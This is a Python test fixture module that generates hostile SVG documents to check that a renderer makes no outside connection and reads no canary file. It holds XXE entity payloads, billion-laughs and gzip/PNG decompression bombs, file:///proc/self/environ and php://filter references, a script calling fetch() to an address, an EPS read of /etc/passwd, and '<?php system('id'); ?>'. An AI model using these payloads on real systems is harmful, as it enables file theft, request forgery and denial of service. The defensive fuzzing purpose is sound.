@@ -1,0 +1,385 @@
+"""Hostile SVG documents: every class of attack that is known to matter, and broken ones from mutation.
+
+``hostile_documents(address, canary)`` gives ``name -> document`` (text or bytes); ``address`` is a host and port that
+must see no connection, ``canary`` a file that must not be read.
+"""
+
+import base64
+import gzip
+import io
+import random
+import struct
+import zlib
+
+from PIL import Image
+from pivot.environments.svg.targets.icons import draw_target
+
+NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+
+
+def svg(body: str, view: str = "0 0 100 100", attributes: str = "") -> str:
+    return f'<svg {NAMESPACES} viewBox="{view}" {attributes}>{body}</svg>'
+
+
+def data_uri(kind: str, data: bytes) -> str:
+    return f"data:{kind};base64,{base64.b64encode(data).decode()}"
+
+
+def hostile_documents(address: str, canary: str) -> dict[str, str | bytes]:
+    documents: dict[str, str | bytes] = {}
+    for group in (
+        _external(address, canary),
+        _entities(address, canary),
+        _blow_ups(),
+        _numbers(),
+        _images(),
+        _not_documents(),
+        _odd_structures(),
+        _mutations(),
+    ):
+        assert not documents.keys() & group.keys()
+        documents |= group
+    return documents
+
+
+def _external(address: str, canary: str) -> dict[str, str | bytes]:
+    """References to other places, in every way that an SVG can make one."""
+    urls = {
+        "http": f"http://{address}/x.svg",
+        "https": f"https://{address}/x.svg",
+        "ftp": f"ftp://{address}/x.svg",
+        "no-scheme": f"//{address}/x.svg",
+        "file": f"file://{canary}",
+        "path": canary,
+        "up": f"../../../../../../../..{canary}",
+        "localhost": f"file://localhost{canary}",
+        "proc": "file:///proc/self/environ",
+        "zero": "file:///dev/zero",
+        "stdin": "/dev/stdin",
+        "unc": f"\\\\{address}\\x",
+        "jar": f"jar:http://{address}/x!/y",
+        "php": f"php://filter/resource={canary}",
+        "upper": f"HTTP://{address}/X.PNG",
+    }
+    ways = {
+        "image": '<image width="9" height="9" href="{}"/>',
+        "image-xlink": '<image width="9" height="9" xlink:href="{}"/>',
+        "use": '<use href="{}#a"/>',
+        "use-xlink": '<use xlink:href="{}#a"/>',
+        "tref": '<text y="9"><tref xlink:href="{}#a"/></text>',
+        "fill": '<rect width="9" height="9" fill="url({}#a)"/>',
+        "filter": '<rect width="9" height="9" filter="url({}#a)"/>',
+        "mask": '<rect width="9" height="9" mask="url({}#a)" clip-path="url({}#b)" marker-end="url({}#c)"/>',
+        "gradient": '<linearGradient id="g" xlink:href="{}#a"/><rect width="9" height="9" fill="url(#g)"/>',
+        "pattern": '<pattern id="g" xlink:href="{}#a"/><rect width="9" height="9" fill="url(#g)"/>',
+        "feimage": '<filter id="f"><feImage href="{}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
+        "style-import": "<style>@import url({});</style>",
+        "style-text-import": '<style>@import "{}";</style>',
+        "font-face": "<style>@font-face {{ font-family: x; src: url({}); }} text {{ font-family: x }}</style>"
+        '<text y="9">x</text>',
+        "style-fill": '<style>rect {{ fill: url({}#a) }}</style><rect width="9" height="9"/>',
+        "textpath": '<text><textPath href="{}#a">x</textPath></text>',
+        "base": '<g xml:base="{}"><image width="9" height="9" href="x.png"/><use href="#a"/></g>',
+    }
+    documents: dict[str, str | bytes] = {
+        f"external {way} {kind}": svg(
+            form.replace("{{", "{").replace("}}", "}").replace("{}", url.replace("&", "&amp;"))
+        )
+        for way, form in ways.items()
+        for kind, url in urls.items()
+        if kind in ("http", "file", "path", "no-scheme") or way in ("image", "use", "style-import")
+    }
+    for name, line in (
+        ("stylesheet http", f'<?xml-stylesheet type="text/css" href="http://{address}/x.css"?>'),
+        ("stylesheet file", f'<?xml-stylesheet type="text/css" href="{canary}"?>'),
+        ("doctype http", f'<!DOCTYPE svg PUBLIC "x" "http://{address}/x.dtd">'),
+        ("doctype file", f'<!DOCTYPE svg SYSTEM "file://{canary}">'),
+    ):
+        documents[f"external {name}"] = line + svg('<rect width="9" height="9"/>')
+    nested = svg(f'<image width="9" height="9" href="http://{address}/x.png"/><image href="{canary}"/>')
+    documents["external nested data"] = svg(
+        f'<image width="9" height="9" href="{data_uri("image/svg+xml", nested.encode())}"/>'
+    )
+    documents["external script"] = svg(f'<script href="http://{address}/x.js">fetch("http://{address}")</script>')
+    documents["external xinclude"] = svg(
+        f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="{canary}"/>'
+    )
+    documents["external foreign"] = svg(f'<foreignObject><iframe src="http://{address}"/></foreignObject>')
+    return documents
+
+
+def _entities(address: str, canary: str) -> dict[str, str | bytes]:
+    laughs = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 10))
+    kinds = {
+        "external file": f'<!ENTITY x SYSTEM "file://{canary}">',
+        "external http": f'<!ENTITY x SYSTEM "http://{address}/x">',
+        "external public": f'<!ENTITY x PUBLIC "x" "http://{address}/x">',
+        "parameter": f'<!ENTITY % p SYSTEM "http://{address}/x.dtd"> %p; <!ENTITY x "y">',
+        "parameter file": f'<!ENTITY % p SYSTEM "{canary}"> %p; <!ENTITY x "y">',
+        "internal": '<!ENTITY x "y">',
+        "laughs": f'<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l9;">',
+        "quadratic": f'<!ENTITY x "{"a" * 50_000}">',
+        "unparsed": f'<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "{canary}" NDATA n>',
+        "recursive": '<!ENTITY x "&x;">',
+    }
+    documents: dict[str, str | bytes] = {}
+    for name, declaration in kinds.items():
+        uses = "&x;" * (500 if name == "quadratic" else 1)
+        documents[f"entity {name} in text"] = f"<!DOCTYPE svg [{declaration}]>" + svg(f"<text y='9'>{uses}</text>")
+        documents[f"entity {name} in attribute"] = f"<!DOCTYPE svg [{declaration}]>" + svg(f"<path d='{uses}'/>")
+    documents["entity undefined"] = svg("<text>&nope;</text>")
+    documents["attribute defaults"] = '<!DOCTYPE svg [<!ATTLIST rect width CDATA "1e308">]>' + svg("<rect height='1'/>")
+    return documents
+
+
+def _blow_ups() -> dict[str, str | bytes]:
+    """Small documents that are a lot of work, and large ones."""
+    doubling = "".join(f'<g id="a{k}"><use href="#a{k - 1}"/><use href="#a{k - 1}" x="1"/></g>' for k in range(1, 17))
+    dot = '<rect id="a0" width="1" height="1"/>'
+    turbulence = '<filter id="f"><feTurbulence numOctaves="9999999"/><feGaussianBlur stdDeviation="1e9"/></filter>'
+    return {
+        "use doubling": svg(f"<defs>{dot}{doubling}</defs><use href='#a16'/>"),
+        "use itself": svg('<use id="a" href="#a"/>'),
+        "use parent": svg('<g id="a"><rect width="9" height="9"/><use href="#a"/></g>'),
+        "use circle": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
+        "pattern of itself": svg(
+            '<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="9" height="9"/></pattern>'
+            '<rect width="99" height="99" fill="url(#p)"/>'
+        ),
+        "patterns nested": svg(
+            "".join(
+                f'<pattern id="p{k}" width=".01" height=".01"><rect width="9" height="9" fill="url(#p{k + 1})"/>'
+                "</pattern>"
+                for k in range(20)
+            )
+            + '<rect width="99" height="99" fill="url(#p0)"/>'
+        ),
+        "pattern huge": svg(
+            '<pattern id="p" width="1e6" height="1e6" patternUnits="userSpaceOnUse"><rect width="1e6" '
+            'height="1e6"/></pattern><rect width="99" height="99" fill="url(#p)"/>',
+            "0 0 1 1",
+        ),
+        "mask of itself": svg(
+            '<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="9" height="9" mask="url(#m)"/>'
+        ),
+        "clip of itself": svg(
+            '<clipPath id="c"><rect width="9" height="9" clip-path="url(#c)"/></clipPath>'
+            '<rect width="9" height="9" clip-path="url(#c)"/>'
+        ),
+        "marker of itself": svg(
+            '<marker id="m"><path d="M0 0L1 1" marker-end="url(#m)"/></marker><path d="M0 0L9 9" marker-end="url(#m)"/>'
+        ),
+        "gradient of itself": svg('<linearGradient id="g" href="#g"/><rect width="9" height="9" fill="url(#g)"/>'),
+        "gradient circle": svg(
+            '<linearGradient id="g" xlink:href="#h"/><linearGradient id="h" xlink:href="#g"/>'
+            '<rect width="9" height="9" fill="url(#g)"/>'
+        ),
+        "filter": svg(turbulence + '<rect width="9" height="9" filter="url(#f)"/>'),
+        "groups nested": svg("<g>" * 60_000 + "</g>" * 60_000),
+        "groups nested some": svg("<g>" * 500 + '<rect width="9" height="9"/>' + "</g>" * 500),
+        "groups transparent": svg('<g opacity=".5">' * 300 + "<g/>" + "</g>" * 300),
+        "elements 200k": svg("<a/>" * 120_000),
+        "elements too many": svg('<rect width="1" height="1"/>' * 200_000),
+        "elements drawn": svg('<path d="M0 0h9v9z"/>' * 20_000),
+        "strokes dashed": svg('<path d="M0 0H100" stroke="red" stroke-dasharray="1e-9 1e-9"/>'),
+        "strokes dashed long": svg('<path d="M0 0H1e9V1e9" stroke="red" stroke-width="9" stroke-dasharray=".001"/>'),
+        "strokes round": svg('<path d="M0 0Q9 9 1 1" stroke="red" stroke-width="1e9" stroke-linecap="round"/>'),
+        "path of 50 MB": svg(f'<path d="M0 0{"L1 1" * 13_000_000}"/>'),
+        "path of 500 KB": svg(f'<path d="M0 0{"L9 1L1 9" * 60_000}" stroke="red"/>'),
+        "path of curves": svg(f'<path d="M0 0{"C1 99 99 1 5 5" * 30_000}" stroke="red"/>'),
+        "path of arcs": svg(f'<path d="M0 0{"A1e-9 1e9 45 1 1 5 5" * 20_000}" stroke="red"/>'),
+        "path backtracking": svg(f'<path d="{"0" * 400_000}"/>'),
+        "points many": svg(f'<polygon points="{"1,1 9,9 " * 50_000}"/>'),
+        "transforms many": svg(f'<rect width="9" height="9" transform="{"rotate(1)" * 50_000}"/>'),
+        "style long": svg(f"<style>{'rect{fill:red}' * 30_000}</style><rect width='9' height='9'/>"),
+        "style selectors": svg(f"<style>{'g ' * 5_000}{{fill:red}}</style>" + "<g>" * 200 + "</g>" * 200),
+        "style nested": svg(f"<style>{'@media all{' * 5_000}</style>"),
+        "style attribute": svg(f'<rect style="{"fill:red;" * 50_000}" width="9" height="9"/>'),
+        "attributes many": svg("<g " + " ".join(f'a{k}="1"' for k in range(40_000)) + "/>"),
+        "attribute inherited": svg(f'<g font-family="{"a" * 200_000}">' + "<g/>" * 2_000 + "</g>"),
+        "text long": svg(f'<text y="50">{"x" * 400_000}</text>'),
+        "text huge": svg('<text y="50" font-size="1e9">x</text>'),
+        "text paths": svg(
+            '<path id="p" d="M0 0H1e300"/><text><textPath href="#p">' + "x" * 10_000 + "</textPath></text>"
+        ),
+        "text spacing": svg(f'<text y="9" letter-spacing="1e300" rotate="{"1 " * 50_000}">xx</text>'),
+        "text families": svg(
+            "".join(f'<text y="9" font-family="f{k}" font-size="{k}">x</text>' for k in range(1, 2_000))
+        ),
+        "comments": svg(f"<!--{'x' * 400_000}-->"),
+        "namespaces": svg("".join(f'<g xmlns:n{k}="u{k}"/>' for k in range(12_000))),
+        "hash collisions": svg(
+            "<g " + " ".join(f'{chr(97 + k % 26)}{k * 2654435761 % 2**32}=""' for k in range(30_000)) + "/>"
+        ),
+        "switch": svg("<switch>" + '<g systemLanguage="xx"/>' * 10_000 + "</switch>"),
+        "color": svg(f'<rect width="9" height="9" fill="rgb({"1," * 100_000})"/>'),
+        "url backtracking": svg(f'<rect width="9" height="9" style="fill:url({"(" * 20_000}"/>'),
+        "quotes backtracking": svg("<rect style='fill:url(\"" + "\\a" * 50_000 + "'/>"),
+        "font shorthand": svg(f'<text y="9" style="font:{"a, " * 30}!">x</text>'),
+        "font shorthand long": svg(f'<text y="9" style="font:{"aa " * 3_000}!">x</text>'),
+    }
+
+
+def _numbers() -> dict[str, str | bytes]:
+    documents: dict[str, str | bytes] = {}
+    numbers = ("1e308", "-1e308", "1e999", "nan", "inf", "1e-320", "9" * 5_000, "0x10", "1e", "-", "1%%", "1e9999em")
+    for number in numbers:
+        label = number if len(number) < 10 else f"{number[:3]}..."
+        documents |= {
+            f"number circle stroke {label}": svg(f'<circle r="5" cx="{number}" stroke="red" stroke-width="{number}"/>'),
+            f"number rect {label}": svg(f'<rect x="{number}" width="{number}" height="{number}" rx="{number}"/>'),
+            f"number ellipse {label}": svg(f'<ellipse rx="5" ry="1" cx="{number}" cy="5"/>'),
+            f"number path {label}": svg(
+                f'<path d="M0 0C{number} 1 1 {number} 9 9A{number} 1 {number} 1 1 5 5Z" stroke="red"/>'
+            ),
+            f"number view {label}": svg('<rect width="9" height="9"/>', f"0 0 {number} {number}"),
+            f"number size {label}": svg(
+                '<rect width="9" height="9"/>', "0 0 9 9", f'width="{number}" height="{number}"'
+            ),
+            f"number transform {label}": svg(
+                f'<rect width="9" height="9" transform="scale({number}) skewX({number})"/>'
+            ),
+            f"number opacity {label}": svg(f'<g opacity="{number}"><circle r="9" stroke-dashoffset="{number}"/></g>'),
+            f"number text {label}": svg(f'<text x="{number}" y="9" font-size="{number}">x</text>'),
+            f"number filter {label}": svg(
+                f'<filter id="f"><feOffset dx="{number}"/><feFlood flood-opacity="{number}"/></filter>'
+                '<rect width="9" height="9" filter="url(#f)"/>'
+            ),
+            f"number pattern {label}": svg(
+                f'<pattern id="p" width="{number}" height="{number}"><path d="M0 0L1 1"/></pattern>'
+                '<rect width="9" height="9" fill="url(#p)"/>'
+            ),
+        }
+    # An endless loop in C: once is enough to know, it costs a worker.
+    return documents | {"number circle 1e308": svg('<circle r="1e308"/>'), "number circle -1": svg('<circle r="-1"/>')}
+
+
+def _png(width: int, height: int, rows: bytes = b"") -> bytes:
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
+
+
+def _images() -> dict[str, str | bytes]:
+    def embed(kind: str, data: bytes) -> str:
+        return svg(f'<image width="9" height="9" href="{data_uri(kind, data)}"/>')
+
+    bomb = zlib.compress(bytes(12_000 * (3 * 12_000 + 1)), 1)
+    buffer = io.BytesIO()
+    Image.new("RGB", (4, 4)).save(buffer, "TIFF")
+    small = svg('<rect width="9" height="9"/>').encode()
+    deep = small
+    for _ in range(8):
+        deep = embed("image/svg+xml", deep).encode()
+    script = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n(/etc/passwd) (r) file\n%%EOF\n"
+    return {
+        "image 12k": embed("image/png", _png(12_000, 12_000, bomb)),
+        "image 12k empty": embed("image/png", _png(12_000, 12_000)),
+        "image 2^31": embed("image/png", _png(2**31 - 1, 2**31 - 1)),
+        "image torn": embed("image/png", _png(9, 9, zlib.compress(bytes(280)))[:60]),
+        "image postscript": embed("image/eps", script),
+        "image tiff": embed("image/tiff", buffer.getvalue()),
+        "image text": embed("text/plain", b"hello"),
+        "image empty": embed("image/png", b""),
+        "image not base64": svg('<image width="9" height="9" href="data:image/png;base64,%%%"/>'),
+        "image svg in svg": embed("image/svg+xml", deep),
+        "image svgz": embed("image/svg+xml", gzip.compress(small)),
+        "image svgz bomb": embed("image/svg+xml", gzip.compress(svg(" " * 60_000_000).encode(), 9)),
+        "image huge": svg(f'<image width="1e9" height="1e9" href="{data_uri("image/png", _png(1, 1))}"/>'),
+        "image of itself": svg('<image id="a" width="9" height="9" href="#a"/><image width="9" height="9" href=""/>'),
+    }
+
+
+def _not_documents() -> dict[str, str | bytes]:
+    plain = svg('<rect width="9" height="9"/>')
+    return {
+        "nothing": "",
+        "nothing bytes": b"",
+        "white space": " \n\t",
+        "gzip": gzip.compress(plain.encode()),
+        "gzip bomb": gzip.compress(bytes(50_000_000), 9),
+        "gzip header": b"\x1f\x8b",
+        "nul": plain.replace("rect", "re\0ct"),
+        "nul bytes": b"\0" * 1000,
+        "latin": "<svg>é</svg>".encode("latin-1"),
+        "utf-16": plain.encode("utf-16"),
+        "utf-32": plain.encode("utf-32"),
+        "utf-7": b'<?xml version="1.0" encoding="utf-7"?>+ADw-svg/+AD4-',
+        "encoding unknown": '<?xml version="1.0" encoding="x-none"?>' + plain,
+        "encoding other": '<?xml version="1.0" encoding="utf-16"?>' + plain,
+        "surrogate": "<svg>\ud800</svg>",
+        "byte order mark": "\ufeff" + plain,
+        "html": "<html><body><svg/></body></html>",
+        "other namespace": '<svg xmlns="http://example.org/"/>',
+        "no namespace": '<svg viewBox="0 0 9 9"><rect width="9" height="9"/></svg>',
+        "two roots": plain + plain,
+        "text": "I cannot draw this.",
+        "json": '{"svg": 1}',
+        "tag only": "<svg",
+        "cdata": svg("<![CDATA[" + "]" * 1000 + "]]>"),
+        "instruction": "<?php system('id'); ?>" + plain,
+        "controls": svg("<text>\x01\x02</text>"),
+        "too large": svg(" " * 600_000),
+        "too large in bytes": svg("人" * 200_000),
+    }
+
+
+def _odd_structures() -> dict[str, str | bytes]:
+    bodies = {
+        "svg in svg": '<svg viewBox="0 0 1 1" width="1e9" height="1e9"><rect width="9" height="9"/></svg>' * 3,
+        "svg nested": "<svg>" * 100 + "</svg>" * 100,
+        "missing ids": '<use href="#n"/><rect width="9" height="9" fill="url(#n)" mask="url(#n)" filter="url(#n)"/>',
+        "empty ids": '<use href="#"/><use/><use href=""/><g id=""/><rect fill="url()" width="9" height="9"/>',
+        "odd path": '<path d="Z M L 1 A 1 2 C"/><path d="M0"/><path d="hello"/><path d=""/><path/>',
+        "odd points": '<polygon points="1"/><polyline points="a b"/><polygon points="1,2,3"/>',
+        "odd transform": '<g transform="spin(9)"/><g transform="matrix(1)"/><g transform="rotate()"/>',
+        "odd style": '<g style="{{{;;:"/><style>}}}} @@ !important</style><g class="a b c"/>',
+        "odd colours": '<rect width="9" height="9" fill="#12" stroke="rgb(a,b)"/><path d="M0 0L9 9Z" fill="#xyzxyz"/>',
+        "odd dashes": '<path d="M0 0L9 9" stroke="red" stroke-dasharray="-1 -1"/>',
+        "odd caps": '<path d="M0 0L9 9" stroke-linecap="x" stroke-linejoin="y" stroke-miterlimit="z"/>',
+        "degenerate": '<g transform="scale(0)"><circle r="9" stroke="red"/></g>',
+        "animation": '<rect width="9" height="9"><animate attributeName="x" dur="1s" repeatCount="indefinite"/></rect>',
+        "handlers": '<rect width="9" height="9" onload="while(1);"/><script>while(1);</script>',
+        "gradient stops": '<linearGradient id="g"><stop offset="x"/><stop offset="-9"/></linearGradient><rect width="9"'
+        ' height="9" fill="url(#g)"/>',
+        "markers": '<marker id="m" markerWidth="0" viewBox="0 0 0 0"><path d="M0 0"/></marker>'
+        '<path d="M0 0L9 9" marker-start="url(#m)" marker-mid="url(#m)" marker-end="url(#m)"/>',
+    }
+    documents: dict[str, str | bytes] = {f"odd {name}": svg(body) for name, body in bodies.items()}
+    documents["odd view"] = svg('<rect width="9" height="9"/>', "a b c d")
+    documents["odd view short"] = svg('<rect width="9" height="9"/>', "0 0")
+    documents["odd view zero"] = svg('<rect width="9" height="9"/>', "0 0 0 0")
+    documents["odd aspect"] = svg('<rect width="9" height="9"/>', "0 0 9 9", 'preserveAspectRatio="xMidYMax evil"')
+    return documents
+
+
+def _mutations(count: int = 60) -> dict[str, str | bytes]:
+    """Targets with random damage: characters, tags and numbers replaced, parts repeated or lost."""
+    documents: dict[str, str | bytes] = {}
+    for seed in range(count):
+        rng = random.Random(seed)
+        text = draw_target(rng)
+        for _ in range(rng.randrange(1, 6)):
+            at, length = rng.randrange(len(text)), rng.randrange(1, 30)
+            replacement = rng.choice(
+                [
+                    "",
+                    "<",
+                    ">",
+                    "&",
+                    '"',
+                    "1e30",
+                    "-",
+                    "/>",
+                    "<g>",
+                    "</g>",
+                    "url(#g0)",
+                    text[at : at + length] * 3,
+                    "\ufffd",
+                ]
+            )
+            text = text[:at] + replacement + text[at + length :]
+        documents[f"mutation {seed}"] = text
+    return documents
